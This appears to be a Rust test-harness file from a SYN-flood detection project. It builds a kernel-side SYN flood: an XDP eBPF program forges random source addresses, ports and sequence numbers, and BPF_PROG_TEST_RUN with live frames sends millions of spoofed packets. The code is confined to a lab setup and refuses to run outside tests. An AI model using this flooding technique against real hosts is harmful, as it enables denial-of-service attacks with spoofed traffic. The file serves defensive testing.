//! A SYN flood that the kernel makes by itself, several times as fast as a program sends one:
//! `BPF_PROG_TEST_RUN` with `BPF_F_TEST_XDP_LIVE_FRAMES` (Linux 5.18) runs an XDP program on frames
//! out of nothing and transmits them.

use std::io;
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::Instant;

use socket2::{Domain, Socket, Type};
use synwatch::sys::bpf::{self, Instruction, instruction, op};

use crate::common::frames::{BARE, Segment};
use crate::generator::{Flood, TIME_CAP, pin};
use crate::support::flood::{Random, interface_index, refuse_outside_tests};
use crate::support::lab::{ATTACKER_LINK, Lab, VICTIM_LINK};

/// Frames made in one call. A call takes tens of milliseconds beside them, in which none are sent.
const FRAMES: u32 = 2_000_000;
/// Frames sent at once: as many as a NAPI poll takes.
const BATCH: u32 = 64;

/// Numbers of bpf(2) (`linux/bpf.h`).
const PROG_TEST_RUN: libc::c_long = 10;
const TYPE_XDP: u32 = 6;
const LIVE_FRAMES: u32 = 2;
/// Switches generic receive offload (`linux/ethtool.h`), asked for by this ioctl
/// (`linux/sockios.h`).
const ETHTOOL_SGRO: u32 = 0x2c;
const SIOCETHTOOL: libc::c_ulong = 0x8946;

/// Gives a frame a source address and port and a sequence number at random, and sends it (XDP_TX).
/// No host looks at the checksums of frames for others, so they stay as they are.
const PROGRAM: [Instruction; 24] = {
    /// `bpf_get_prandom_u32`.
    const PRANDOM: i32 = 7;
    const XDP_DROP: i32 = 1;
    const XDP_TX: i32 = 3;
    [
        instruction(op::MOVE, 6, 1, 0, 0),
        instruction(op::CALL, 0, 0, 0, PRANDOM),
        instruction(op::MOVE, 7, 0, 0, 0),
        instruction(op::CALL, 0, 0, 0, PRANDOM),
        instruction(op::MOVE, 8, 0, 0, 0),
        instruction(op::CALL, 0, 0, 0, PRANDOM),
        instruction(op::MOVE, 9, 0, 0, 0),
        // The frame lies from the context's `data` up to `data_end`.
        instruction(op::LOAD_WORD, 2, 6, 0, 0),
        instruction(op::LOAD_WORD, 3, 6, 4, 0),
        instruction(op::MOVE, 4, 2, 0, 0),
        instruction(op::ADD_NUMBER, 4, 0, 0, BARE as i32),
        instruction(op::MOVE_NUMBER, 0, 0, 0, XDP_DROP),
        instruction(op::JUMP_IF_GREATER, 4, 3, 10, 0),
        // The first octet of the address is one from 11 to 74.
        instruction(op::MOVE, 1, 7, 0, 0),
        instruction(op::AND_NUMBER, 1, 0, 0, 0x3f),
        instruction(op::ADD_NUMBER, 1, 0, 0, 11),
        instruction(op::AND_NUMBER, 7, 0, 0, !0xff),
        instruction(op::OR, 7, 1, 0, 0),
        instruction(op::STORE_WORD, 2, 7, 26, 0),
        // No port is below 1,024.
        instruction(op::OR_NUMBER, 9, 0, 0, 4),
        instruction(op::STORE_HALF, 2, 9, 34, 0),
        instruction(op::STORE_WORD, 2, 8, 38, 0),
        instruction(op::MOVE_NUMBER, 0, 0, 0, XDP_TX),
        instruction(op::EXIT, 0, 0, 0, 0),
    ]
};

/// What `PROG_TEST_RUN` reads of `union bpf_attr`.
#[repr(C)]
#[derive(Default)]
struct TestRun {
    program: u32,
    result: u32,
    data_in_length: u32,
    data_out_length: u32,
    data_in: u64,
    data_out: u64,
    repeat: u32,
    duration: u32,
    context_in_length: u32,
    context_out_length: u32,
    context_in: u64,
    context_out: u64,
    flags: u32,
    core: u32,
    batch: u32,
    padding: u32,
}

/// `struct xdp_md`.
#[repr(C)]
#[derive(Default)]
struct Context {
    data: u32,
    data_end: u32,
    data_meta: u32,
    ingress: u32,
    queue: u32,
    egress: u32,
}

impl Flood {
    /// Sends from the attacker of `lab`, on core number `core`, as fast as the kernel can; the rate
    /// is not looked at.
    pub fn storm(self, lab: &Lab, core: usize) -> io::Result<()> {
        // Such frames are received by NAPI only, which a veth has with receive offload.
        lab.victim.run(|| switch_receive_offload_on(VICTIM_LINK))?;
        lab.attacker.run(|| {
            refuse_outside_tests();
            pin(core)?;
            let program = bpf::load(TYPE_XDP, (0, 0), &PROGRAM)?;
            let mut frame = [0; BARE + 20];
            Segment::forged(self.target, &mut Random(self.seed | 1)).write(&mut frame);
            frame[..6].copy_from_slice(&self.link);
            let link = interface_index(ATTACKER_LINK)? as u32;
            let begin = Instant::now();
            while begin.elapsed() < self.duration.min(TIME_CAP) {
                run(&program, &frame[..BARE], link)?;
            }
            Ok(())
        })
    }
}

/// Has `program` make frames from this one, as if they had come in on the interface number `link`.
fn run(program: &OwnedFd, frame: &[u8], link: u32) -> io::Result<()> {
    let length = frame.len() as u32;
    let context = Context { data_end: length, ingress: link, ..Context::default() };
    let mut test = TestRun {
        program: program.as_raw_fd() as u32,
        data_in_length: length,
        data_in: frame.as_ptr() as u64,
        repeat: FRAMES,
        context_in_length: size_of::<Context>() as u32,
        context_in: (&raw const context) as u64,
        flags: LIVE_FRAMES,
        batch: BATCH,
        ..TestRun::default()
    };
    // SAFETY: the test points to the frame and to the context, each of the length beside it, which
    // outlive the call.
    unsafe { bpf::call(PROG_TEST_RUN, &mut test).map(drop) }
}

/// Switches generic receive offload on, which has the interface poll for frames (NAPI).
fn switch_receive_offload_on(name: &str) -> io::Result<()> {
    let any = Socket::new(Domain::IPV4, Type::DGRAM, None)?;
    // SAFETY: all zeros are a valid request.
    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
    for (to, from) in request.ifr_name.iter_mut().zip(name.bytes()) {
        *to = from as libc::c_char;
    }
    // `struct ethtool_value`: command and value.
    let mut value = [ETHTOOL_SGRO, 1];
    request.ifr_ifru.ifru_data = value.as_mut_ptr().cast();
    // SAFETY: the request is for an interface's name and a command that reads both numbers; all
    // outlives the call.
    match unsafe { libc::ioctl(any.as_raw_fd(), SIOCETHTOOL, &raw mut request) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}
